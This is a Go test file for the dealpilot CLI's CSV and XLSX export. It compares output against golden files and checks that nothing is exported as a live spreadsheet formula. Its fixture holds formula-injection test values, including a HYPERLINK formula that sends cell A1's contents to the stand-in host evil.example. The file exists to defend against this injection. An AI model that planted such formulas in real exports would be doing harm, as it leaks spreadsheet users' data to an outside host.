package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/dealpilot/dealpilot/bot/sample"
	"github.com/dealpilot/dealpilot/domain"
	"github.com/dealpilot/dealpilot/export"
	"github.com/dealpilot/dealpilot/store"
)

// exportFixture writes the fixed store the export goldens come from: the
// sample team's year (wins, losses, discounts and their requests, weekly
// snapshots) as of a fixed instant, the team's names as Slack showed them,
// and two deals whose texts a spreadsheet would run as formulas.
func exportFixture(t *testing.T) string {
	t.Helper()
	now := time.Date(2026, 11, 30, 7, 10, 0, 0, time.UTC)
	path := filepath.Join(t.TempDir(), "dealpilot.db")
	clock := domain.NewManualClock(now)
	db, err := store.Open(path, store.Options{Clock: clock})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := sample.Year(t.Context(), db, clock, now, domain.DefaultStages()); err != nil {
		t.Fatal(err)
	}
	clock.Set(now)
	names := map[domain.UserID]string{}
	for _, p := range sample.People {
		names[p.ID] = p.RealName
	}
	if err := db.SeePeople(t.Context(), names); err != nil {
		t.Fatal(err)
	}
	for i, d := range []*domain.Deal{
		{Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`, Account: "@Evil Corp", NextStep: "-1+1 call back\nthen \"quote\"",
			Amount: 123456, CloseDate: domain.NewDate(2026, 12, 18)},
		{Name: "+33 renewal, year 2", Account: "Rénovation Dupont", NextStep: "\tsend the deck", Amount: 5, CloseDate: domain.NewDate(2026, 12, 21)},
	} {
		d.Owner, d.Currency, d.Stage, d.Category, d.Status = sample.Rep1, "EUR", "Qualification", domain.Pipeline, domain.Open
		if _, err := db.CreateDeal(t.Context(), d, sample.Rep1, fmt.Sprint("export-fixture-", i)); err != nil {
			t.Fatal(err)
		}
	}
	// What customers took away (issue 20): a downgrade, then a churn
	// with a reason that reads as a formula.
	for _, e := range []domain.AccountEvent{
		{Kind: domain.EventDowngrade, On: domain.NewDate(2026, 6, 1), Amount: 6_000_00, Currency: "EUR", Reason: "fewer seats", By: sample.Rep1},
		{Kind: domain.EventChurn, On: domain.NewDate(2026, 11, 20), Amount: 34_000_00, Currency: "EUR", Reason: "=budget cut", By: sample.Manager},
	} {
		if _, err := db.AddAccountEvent(t.Context(), "Fromagerie Bastide", e); err != nil {
			t.Fatal(err)
		}
	}
	return path
}

// xlsxDump is a workbook as text, for a golden: each sheet's name, then a
// line per row, its cells joined by " | ", a number cell marked "#" with
// its raw value and number format.
func xlsxDump(t *testing.T, path string) string {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var b strings.Builder
	for _, sheet := range f.GetSheetList() {
		fmt.Fprintf(&b, "sheet %q\n", sheet)
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			cells := make([]string, len(row))
			for c, v := range row {
				name, _ := excelize.CoordinatesToCellName(c+1, r+1)
				typ, err := f.GetCellType(sheet, name)
				if err != nil {
					t.Fatal(err)
				}
				if formula, _ := f.GetCellFormula(sheet, name); formula != "" {
					t.Errorf("%s!%s is a formula: %q", sheet, name, formula)
				}
				if typ == excelize.CellTypeNumber || (typ == excelize.CellTypeUnset && v != "") {
					shown, _ := f.GetCellValue(sheet, name)
					v = "#" + v + " (" + shown + ")"
				}
				cells[c] = fmt.Sprintf("%q", v)
			}
			fmt.Fprintf(&b, "%d: %s\n", r+1, strings.Join(cells, " | "))
		}
	}
	return b.String()
}

// golden compares got with testdata/export/name, or rewrites it with -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", "export", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test -run %s -update writes it)", err, t.Name())
	}
	if got != string(want) {
		t.Errorf("%s differs from the golden file %s (go test -update rewrites it); got:\n%s", t.Name(), path, got)
	}
}

// TestExportGoldens: every table, as CSV and XLSX, in dealpilot's columns
// and each CRM's, from the fixed fixture store, against the goldens under
// testdata/export/.
func TestExportGoldens(t *testing.T) {
	db := exportFixture(t)
	env := map[string]string{"DEALPILOT_DB": db}
	type job struct{ what, target string }
	jobs := []job{{"deals", ""}, {"history", ""}, {"desk", ""}, {"snapshots", ""}, {"accounts", ""}}
	for _, target := range export.Targets {
		jobs = append(jobs, job{"deals", target})
	}
	for _, j := range jobs {
		base := j.what
		args := []string{"export", "--what", j.what}
		if j.target != "" {
			base += "-" + j.target
			args = append(args, "--for", j.target)
		}
		t.Run(base+"/csv", func(t *testing.T) {
			code, out, errOut := run(t, env, args...)
			if code != exitOK {
				t.Fatalf("exit %d: %s", code, errOut)
			}
			golden(t, base+".csv", out)
		})
		t.Run(base+"/xlsx", func(t *testing.T) {
			path := filepath.Join(t.TempDir(), base+".xlsx")
			code, _, errOut := run(t, env, append(args, "-o", path)...)
			if code != exitOK {
				t.Fatalf("exit %d: %s", code, errOut)
			}
			golden(t, base+".xlsx.txt", xlsxDump(t, path))
		})
	}
}

// TestExportRefuses: bad flags and a missing file are said with the usage
// (exit 2); a file a running bot holds is said with the way out (a backup,
// exit 1), and nothing is written.
func TestExportRefuses(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "dealpilot.db")
	db, err := store.Open(path, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"DEALPILOT_DB": path}
	out := filepath.Join(dir, "deals.csv")
	code, _, errOut := run(t, env, "export", "-o", out)
	if code != exitFailed || !strings.Contains(errOut, "held by a running bot") || !strings.Contains(errOut, "dealpilot backup") {
		t.Errorf("export of a held file: exit %d %q, want 1 and the backup to take", code, errOut)
	}
	if _, err := os.Stat(out); !os.IsNotExist(err) {
		t.Errorf("a refused export wrote %s", out)
	}
	db.Close()

	for _, c := range []struct {
		name string
		env  map[string]string
		args []string
		want string
	}{
		{"NoFile", map[string]string{"DEALPILOT_DB": filepath.Join(dir, "none.db")}, nil, "no such database file"},
		{"Format", env, []string{"--format", "pdf"}, `--format "pdf": use csv or xlsx`},
		{"What", env, []string{"--what", "quotas"}, `--what "quotas": use deals, history, desk, snapshots`},
		{"ForHistory", env, []string{"--what", "history", "--for", "hubspot"}, "a CRM imports no history"},
		{"ForUnknown", env, []string{"--for", "zoho"}, `--for "zoho": use`},
		{"XLSXToTerminal", env, []string{"--format", "xlsx"}, "give it with -o FILE"},
		{"Argument", env, []string{"deals"}, `unexpected argument "deals"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			code, out, errOut := run(t, c.env, append([]string{"export"}, c.args...)...)
			if code != exitUsage || !strings.Contains(errOut, c.want) || out != "" {
				t.Errorf("exit %d, stdout %q, stderr %q; want 2 and %q", code, out, errOut, c.want)
			}
		})
	}
}

// TestExportFormatFromExtension: -o x.xlsx writes a workbook without
// --format, and the file is replaced whole.
func TestExportFormatFromExtension(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "dealpilot.db")
	db, err := store.Open(path, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	db.Close()
	out := filepath.Join(dir, "deals.xlsx")
	if err := os.WriteFile(out, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, _, errOut := run(t, map[string]string{"DEALPILOT_DB": path}, "export", "-o", out); code != exitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	if got := xlsxDump(t, out); !strings.HasPrefix(got, "sheet \"Deals\"\n1: \"id\"") {
		t.Errorf("the workbook reads:\n%s", got)
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".deals.xlsx.*")); len(left) > 0 {
		t.Errorf("temporary files left: %q", left)
	}
}
